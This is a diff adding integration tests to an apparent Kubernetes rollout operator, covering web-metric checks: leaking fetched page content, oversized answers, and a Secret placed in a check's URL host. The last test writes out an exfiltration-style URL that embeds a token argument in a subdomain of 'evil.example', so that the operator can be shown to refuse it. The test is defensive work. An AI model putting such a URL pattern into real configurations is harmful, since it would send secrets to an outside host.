@@ -20,6 +20,9 @@ scenarios![
     a_web_check_decides_and_its_token_stays_a_secret,
     a_secret_that_is_missing_is_named,
     an_address_that_is_refused_is_told_with_the_way_to_open_it,
+    a_page_that_a_web_check_is_answered_with_stays_out_of_status_and_events,
+    a_secret_in_the_host_of_a_check_is_refused_before_it_is_read,
+    an_answer_of_too_many_values_is_an_error_and_not_a_success,
 ];
 
 const TOKEN: &str = "hunter2-the-canary";
@@ -99,6 +102,80 @@ async fn a_secret_that_is_missing_is_named(cluster: &mut Cluster) -> Outcome {
     expect_runs(cluster, &[Phase::Error]).await?;
     db.expect_rest(["v1"; 3]).await?;
     rollout.expect_message("there is no Secret check").await.map(drop)
+}
+
+/// A server that answers everything with this, and where.
+async fn page(body: String) -> Outcome<(Site, String)> {
+    let answer = move || async move { ([(axum::http::header::CONTENT_TYPE, "text/html")], body) };
+    let site = Site::serve(Router::new().fallback(answer)).await?;
+    let url = format!("http://{}/check", site.address);
+    Ok((site, url))
+}
+
+/// The rollout and everything that was written about it, after a check of this web metric has failed.
+async fn rejected(
+    cluster: &mut Cluster,
+    metric: serde_json::Value,
+    args: serde_json::Value,
+    phase: Phase,
+) -> Outcome<String> {
+    cluster.with_operator().await?;
+    template(cluster, "checks", json!({"metrics": [metric], "args": args})).await?;
+    let db = cluster.statefulset("db").replicas(3).start().await?;
+    let steps = json!([{"setWeight": 40}, analysis("checks"), {"setWeight": 80}]);
+    let rollout = cluster.rollout("db").steps(steps).start().await?;
+    db.set_image("v2").await?;
+    let runs = expect_runs(cluster, &[phase]).await?;
+    db.expect_rest(["v1"; 3]).await?;
+    rollout.expect_phase("Failed").await?;
+    let events: Api<Event> = Api::namespaced(cluster.client(), cluster.namespace());
+    let events = events.list(&ListParams::default()).await.doing("list events")?;
+    let statuses: Vec<_> = runs.iter().map(|run| &run.status).collect();
+    Ok(json!([statuses, rollout.get().await?.status, events.items]).to_string())
+}
+
+async fn a_page_that_a_web_check_is_answered_with_stays_out_of_status_and_events(
+    cluster: &mut Cluster,
+) -> Outcome {
+    let html = "<html>Welcome, internal-page-c4n4ry</html>";
+    let (_site, url) = page(html.to_owned()).await?;
+    cluster.ask_providers();
+    let judged =
+        json!({"name": "judged", "successCondition": "result == 'fine'", "provider": {"web": {"url": url}}});
+    let written = rejected(cluster, judged, json!([]), Phase::Failed).await?;
+    cluster.expect("nothing of the page is shown", !written.contains("c4n4ry"))?;
+    cluster.expect(
+        "its size is",
+        written.contains(&format!("text, {} bytes", html.len())),
+    )?;
+    Ok(())
+}
+
+async fn a_secret_in_the_host_of_a_check_is_refused_before_it_is_read(cluster: &mut Cluster) -> Outcome {
+    cluster.ask_providers();
+    let web = json!({"web": {"url": "http://{{args.token}}.evil.example/", "timeoutSeconds": 5}});
+    let metric = json!({"name": "check", "consecutiveErrorLimit": 0, "provider": web});
+    // The operator has no right to read it, and would be refused if it tried.
+    let token = json!({"name": "token", "valueFrom": {"secretKeyRef": {"name": "check", "key": "token"}}});
+    let written = rejected(cluster, metric, json!([token]), Phase::Error).await?;
+    cluster.expect(
+        "the field is named",
+        written.contains("provider.web.url: {{args.token}} comes from a Secret"),
+    )
+}
+
+async fn an_answer_of_too_many_values_is_an_error_and_not_a_success(cluster: &mut Cluster) -> Outcome {
+    let (_site, url) = page(format!("[{}0]", r#"{"":0},"#.repeat(30_000))).await?;
+    cluster.ask_providers();
+    let web = json!({"web": {"url": url, "timeoutSeconds": 5}});
+    let metric = json!({
+        "name": "check", "consecutiveErrorLimit": 0, "successCondition": "len(result) > 1", "provider": web,
+    });
+    let written = rejected(cluster, metric, json!([]), Phase::Error).await?;
+    cluster.expect(
+        "the limit is named",
+        written.contains("the answer has more than 20000 values"),
+    )
 }
 
 async fn an_address_that_is_refused_is_told_with_the_way_to_open_it(cluster: &mut Cluster) -> Outcome {
